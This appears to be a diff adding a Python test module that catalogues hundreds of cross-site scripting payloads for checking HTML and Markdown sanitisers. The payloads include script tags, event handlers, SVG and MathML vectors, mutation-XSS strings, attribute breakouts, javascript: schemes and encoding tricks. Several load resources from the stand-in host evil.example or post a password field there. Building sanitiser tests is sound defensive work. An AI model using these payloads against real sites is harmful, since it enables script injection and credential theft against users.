@@ -1,0 +1,291 @@
+"""Attempts to run a script through what people type, in the shapes that have got past sanitisers:
+tags, handlers, links, attributes, mutation, Markdown, templates, encodings.
+
+`CALL` is what a payload runs; the page in which it is tried defines it, and counts.
+"""
+
+from __future__ import annotations
+
+from itertools import product
+
+CALL = "pwned()"
+ELSEWHERE = "//evil.example"
+
+_TAGS = [
+    f"<script>{CALL}</script>",
+    f"<ScRiPt >{CALL}</sCrIpT>",
+    f"<script\x20type='text/javascript'>{CALL}</script>",
+    f"<script/x>{CALL}</script>",
+    f"<script\n>{CALL}</script\n>",
+    f"<script src={ELSEWHERE}/x.js></script>",
+    f"<script type=module>{CALL}</script>",
+    f"<<script>{CALL}//<</script>",
+    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
+    f"<script>/*</script><script>*/{CALL}</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
+    f"<iframe src=javascript:{CALL}></iframe>",
+    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
+    f"<iframe src={ELSEWHERE}></iframe>",
+    f"<object data=javascript:{CALL}></object>",
+    f"<object data={ELSEWHERE}/x.svg></object>",
+    f"<embed src=javascript:{CALL}>",
+    f"<embed src={ELSEWHERE}/x.swf>",
+    f"<base href={ELSEWHERE}/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
+    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
+    f"<link rel=preload as=script href={ELSEWHERE}/x.js>",
+    "<style>*{background:url(//evil.example/x)}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    f"<form action={ELSEWHERE}><input name=password><button>x</button></form>",
+    f"<form><button formaction=javascript:{CALL}>x</button></form>",
+    f"<isindex type=image src=1 onerror={CALL}>",
+    f"<keygen autofocus onfocus={CALL}>",
+    f"<template><img src=x onerror={CALL}></template>",
+    f"<frameset onload={CALL}></frameset>",
+    f"<bgsound src=javascript:{CALL}>",
+    f"<xml id=x><script>{CALL}</script></xml>",
+    f"<portal src=javascript:{CALL}></portal>",
+    "<slot name=x></slot><dialog open>x</dialog>",
+]
+_HANDLERS = [
+    f"<{tag} {attribute}={CALL}>"
+    for tag, attribute in [
+        ("img src=x", "onerror"),
+        ("IMG SRC=x", "OnErRoR"),
+        ("img/src=x", "/onerror"),
+        ("img\tsrc=x", "\tonerror"),
+        ("img\nsrc=x", "\nonerror\n"),
+        ("img src=x:x", "onerror"),
+        ("img src=x alt=`", "onerror"),
+        ("body", "onload"),
+        ("body", "onpageshow"),
+        ("input autofocus", "onfocus"),
+        ("select autofocus", "onfocus"),
+        ("textarea autofocus", "onfocus"),
+        ("button autofocus", "onfocus"),
+        ("a id=x tabindex=1", "onfocus"),
+        ("p tabindex=1 autofocus", "onfocus"),
+        ("div contenteditable autofocus", "onfocus"),
+        ("details open", "ontoggle"),
+        ("video src=x", "onerror"),
+        ("video autoplay", "onloadstart"),
+        ("audio src=x", "onerror"),
+        ("source src=x", "onerror"),
+        ("marquee", "onstart"),
+        ("p style=animation-name:x", "onanimationstart"),
+        ("p style=transition:1s", "ontransitionend"),
+        ("div", "onclick"),
+        ("mark", "onmouseover"),
+        ("table", "onpointerenter"),
+        ("td", "onwheel"),
+        ("code", "oncopy"),
+        ("pre", "onscrollend"),
+        ("summary", "onbeforetoggle"),
+    ]
+]
+_FOREIGN = [
+    f"<svg onload={CALL}>",
+    f"<svg/onload={CALL}>",
+    f"<svg><script>{CALL}</script></svg>",
+    f"<svg><script href='data:,{CALL}'/></svg>",
+    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
+    f"<svg><set onbegin={CALL} attributeName=x>",
+    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=9>x</text></a></svg>",
+    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:{CALL}'/></svg>#x\"/></svg>",
+    f"<svg><foreignObject><iframe src=javascript:{CALL}></iframe></foreignObject></svg>",
+    f"<svg><image href=x onerror={CALL}></svg>",
+    f"<svg><style>*{{background:url({ELSEWHERE})}}</style></svg>",
+    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
+    f"<math><mi xlink:href=javascript:{CALL}>x</mi></math>",
+    f"<math href=javascript:{CALL}>x</math>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
+    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
+    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
+    f"<math><mi onclick={CALL}>x</mi></math>",
+]
+# What a parser makes into something else when the result is parsed again.
+_MUTATING = [
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
+    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={CALL} src>'>",
+    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
+    f"<math></br><style><img title='</style><img src=x onerror={CALL}>'>",
+    f"<svg><p><style><g title='</style><img src=x onerror={CALL}>'>",
+    f"<noembed><img title='</noembed><img src=x onerror={CALL}>'></noembed>",
+    f"<noframes><img title='</noframes><img src=x onerror={CALL}>'></noframes>",
+    f"<xmp><img title='</xmp><img src=x onerror={CALL}>'></xmp>",
+    f"<textarea><img title='</textarea><img src=x onerror={CALL}>'></textarea>",
+    f"<title><img title='</title><img src=x onerror={CALL}>'></title>",
+    f"<select><style><img title='</style></select><img src=x onerror={CALL}>'>",
+    f"<table><td><table><td><a id='</table><img src=x onerror={CALL}>'>",
+    f"<a href='<p title=\"</a><img src=x onerror={CALL}>\">'>x",
+    f"<p id='</p><img src=x onerror={CALL}>'>",
+    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
+    f"<b><p><i></b><img src=x onerror={CALL}></i></p>",
+    f"<h4><table><h5><img src=x onerror={CALL}></h4></table></h5>",
+    f"<ruby><rt><svg><desc><img src=x onerror={CALL}>",
+    f"&lt;img src=x onerror={CALL}&gt;",
+    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
+    f"&#60;script&#62;{CALL}&#60;/script&#62;",
+    f"&#x3c;svg onload={CALL}&#x3e;",
+    f"\\u003cimg src=x onerror={CALL}\\u003e",
+    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
+    f"%3Cscript%3E{CALL}%3C/script%3E",
+    f"＜script＞{CALL}＜/script＞",
+    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
+]
+_BREAKOUTS = [
+    f"{end}{what}"
+    for end, what in product(
+        ['">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</option></select>"],
+        [f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>"],
+    )
+] + [
+    f'" onmouseover="{CALL}',
+    f"' onmouseover='{CALL}",
+    f'" autofocus onfocus="{CALL}" x="',
+    f"' autofocus onfocus='{CALL}' x='",
+    f"` onmouseover={CALL} `",
+    f'" style="animation-name:x" onanimationstart="{CALL}',
+    f"x onerror={CALL}",
+    f"javascript:{CALL}",
+    f'";{CALL};//',
+    f"';{CALL};//",
+    f"\\';{CALL};//",
+    f"${{{CALL}}}",
+    f"\u2028{CALL}",
+    f'" hx-get="/" hx-trigger="load" hx-on::load="{CALL}',
+    f"<div hx-on:click={CALL} hx-get={ELSEWHERE} hx-trigger=load>x</div>",
+    f"<div data-hx-on--load={CALL} data-hx-get={ELSEWHERE}>x</div>",
+]  # fmt: skip
+_SCHEMES = [
+    f"javascript:{CALL}",
+    f"JaVaScRiPt:{CALL}",
+    f" javascript:{CALL}",
+    f"\x01javascript:{CALL}",
+    f"java\tscript:{CALL}",
+    f"java\nscript:{CALL}",
+    f"java&#9;script:{CALL}",
+    f"java&Tab;script:{CALL}",
+    f"&#106;avascript:{CALL}",
+    f"&#x6A;avascript:{CALL}",
+    f"javascript&colon;{CALL}",
+    f"javascript&#58;{CALL}",
+    f"javascript://%0a{CALL}",
+    f"javascript://evil.example/%0A{CALL}",
+    f"\u202ejavascript:{CALL}",
+    f"\ufeffjavascript:{CALL}",
+    f"vbscript:{CALL}",
+    f"livescript:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
+    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
+    f"data:application/xhtml+xml,<x onload='{CALL}'/>",
+    "blob:https://evil.example/x",
+    "filesystem:https://evil.example/x",
+    "view-source:javascript:x",
+    "feed:javascript:x",
+]
+_LINKS = (
+    [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
+    + [f"[x]({scheme})" for scheme in _SCHEMES]
+    + [
+        f"[x](<javascript:{CALL}>)",
+        f"[x](javascript&#58;{CALL})",
+        f"[x](javascript\\:{CALL})",
+        f'[x](/ "\\" onmouseover={CALL} x=\\"")',
+        f"[x]: javascript:{CALL}\n\n[x]",
+        f"[x][y]\n\n[y]: <java\tscript:{CALL}> 'y'",
+        f"<javascript:{CALL}>",
+        f"<https://x.example/\"onmouseover='{CALL}'>",
+        f"![x](javascript:{CALL})",
+        f"![x](data:image/svg+xml,<svg/onload={CALL}>)",
+        f'![x" onerror="{CALL}](x.png)',
+        f"![x](x.png\"onerror=\"{CALL})",
+        f'![x](x.png "x\\" onerror=\\"{CALL}")',
+        "![x](http://evil.example/x.png)",
+        f"[![x](x)](javascript:{CALL})",
+        f"[x](//evil.example){{onclick={CALL}}}",
+        f"[^1]\n\n[^1]: <img src=x onerror={CALL}>",
+        f"*[x]: <img src=x onerror={CALL}>",
+        f"[<img src=x onerror={CALL}>](x)",
+        f"[x](x){{.a onmouseover={CALL}}}",
+    ]
+)  # fmt: skip
+_MARKDOWN = [
+    f"`<img src=x onerror={CALL}>`",
+    f"``</code><img src=x onerror={CALL}>``",
+    f"```\n</code></pre><img src=x onerror={CALL}>\n```",
+    f'```"><img/src=x/onerror={CALL}>\nx\n```',
+    f"```html onload={CALL}\n<script>{CALL}</script>\n```",
+    f"~~~<svg/onload={CALL}>\nx\n~~~",
+    f"    <script>{CALL}</script>",
+    f"$<img src=x onerror={CALL}>$",
+    f"$$\n</math><img src=x onerror={CALL}>\n$$",
+    f"$\\href{{javascript:{CALL}}}{{x}}$",
+    f"$\\text{{<img src=x onerror={CALL}>}}$",
+    f"$\\unicode{{<script>{CALL}</script>}}$",
+    f'$\\style{{x:y}}{{x}}\\class{{x" onclick="{CALL}}}{{y}}\\cssId{{x}}{{y}}$',
+    f"\\(<svg onload={CALL}>\\) \\[<svg onload={CALL}>\\]",
+    f"| <img src=x onerror={CALL}> |\n|---|\n| </table><svg onload={CALL}> |",
+    f"> <script>{CALL}</script>",
+    f"- <details open ontoggle={CALL}>",
+    f"# x {{#y onclick={CALL}}}",
+    f"::: x onclick={CALL}\ny\n:::",
+    f"x[^<svg onload={CALL}>]",
+    f"<div markdown=1>\n\n<img src=x onerror={CALL}>\n\n</div>",
+    f"{{{{ constructor.constructor('{CALL}')() }}}}",
+    f"{{% include 'x' %}}{{{{ '<svg onload={CALL}>'|safe }}}}",
+    f"<%= {CALL} %><?php {CALL} ?>",
+    f"<?xml version='1.0'?><?xml-stylesheet href='javascript:{CALL}'?>",
+    f"<!DOCTYPE x [<!ENTITY y '<script>{CALL}</script>'>]>&y;",
+    f"<!--><img src=x onerror={CALL}>-->",
+    f"<!--->{'<img src=x onerror=' + CALL + '>'}-->",
+    f"<!-- --!><img src=x onerror={CALL}>",
+    f"<![CDATA[<img src=x onerror={CALL}>]]>",
+    f"<svg><![CDATA[><img src=x onerror={CALL}>]]></svg>",
+    f"<img src=x\u00a0onerror={CALL}>",
+    f"<img\x0csrc=x\x0conerror={CALL}>",
+    f"<img src=x \u202eonerror={CALL}>",
+    f"<\u0000script>{CALL}</\u0000script>",
+    f"<scr\u0000ipt>{CALL}</scr\u0000ipt>",
+    f"<img src=x one\u0000rror={CALL}>",
+    f"\u202e<script>{CALL}</script>\u202c",
+    f"<ımg src=x onerror={CALL}><ſcript>{CALL}</ſcript>",
+    f"👩‍💻<svg onload={CALL}>👩‍💻",
+]
+# Each takes what follows it along, so that it stands alone or at an end.
+SWALLOWING = [
+    f"<!-- <img src=x onerror={CALL}>",
+    f"<script>{CALL}",
+    "<plaintext>",
+    f"<img src=x onerror={CALL}",
+    f"<img src='x onerror={CALL}",
+    f"<svg><style><img src=x onerror={CALL}>",
+    f"<textarea><svg onload={CALL}>",
+    f"<title><svg onload={CALL}>",
+    f"```\n<svg onload={CALL}>",
+    f"$$\n<svg onload={CALL}>",
+    f"<![CDATA[<svg onload={CALL}>",
+    "<select><option>",
+    f"<details><summary><svg onload={CALL}>",
+    "<a href='",
+    f"[x](javascript:{CALL}",
+    "<" * 300 + f"svg onload={CALL}>",
+    "<b>" * 100 + f"<img src=x onerror={CALL}>",
+    "x" * 300 + f"<script>{CALL}</script>",
+]
+PAYLOADS = [
+    *_TAGS, *_HANDLERS, *_FOREIGN, *_MUTATING, *_BREAKOUTS, *_LINKS, *_MARKDOWN, *SWALLOWING
+]  # fmt: skip
+
+
+def groups(size: int) -> list[list[str]]:
+    """All payloads, ``size`` to a group, no group with two that swallow, and those at the end."""
+    plain = [payload for payload in PAYLOADS if payload not in SWALLOWING]
+    count = max(len(SWALLOWING), -(-len(plain) // size))
+    found: list[list[str]] = [plain[n::count] for n in range(count)]
+    for group, last in zip(found, SWALLOWING, strict=False):
+        group.append(last)
+    return found
